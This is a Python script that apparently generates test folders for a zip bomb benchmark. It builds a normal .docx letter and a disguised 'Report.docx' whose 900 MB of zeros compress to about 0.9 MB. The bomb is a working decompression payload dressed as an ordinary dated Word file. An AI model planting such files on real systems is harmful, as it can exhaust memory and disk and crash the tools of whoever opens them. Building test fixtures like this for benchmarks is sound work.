#!/usr/bin/env python3
"""Folders for the zip bomb benchmark, planted from Linux: NORMAL holds one backup of "Letter.docx"
(5,000 words, deflated as Word writes it); BOMB holds the same and "Report.docx Date Dec 8 2026 Time 10 02
03 AM.docx", a package whose main part is 900 MB of zeros deflated into about 0.9 MB."""
import os, random, shutil, sys, zipfile

normal, bomb = sys.argv[1], sys.argv[2]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/></Types>')
RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')


def package(path, write_document):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", TYPES)
        z.writestr("_rels/.rels", RELS)
        with z.open("word/document.xml", "w") as part:
            write_document(part)


rng = random.Random(7)
words = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(2, 9))) for _ in range(5000)]
letter = ('<w:document %s><w:body>' % W + "".join(
    '<w:p><w:r><w:t xml:space="preserve">%s </w:t></w:r></w:p>' % " ".join(words[p:p + 20])
    for p in range(0, len(words), 20)) + '</w:body></w:document>').encode()
for folder in (normal, bomb):
    shutil.rmtree(folder, ignore_errors=True)
    os.makedirs(folder)
    package(os.path.join(folder, "Letter.docx Date Dec 8 2026 Time 09 15 00 AM.docx"), lambda part: part.write(letter))


def zeros(part):
    block = bytes(1 << 20)
    for _ in range(900):
        part.write(block)


package(os.path.join(bomb, "Report.docx Date Dec 8 2026 Time 10 02 03 AM.docx"), zeros)
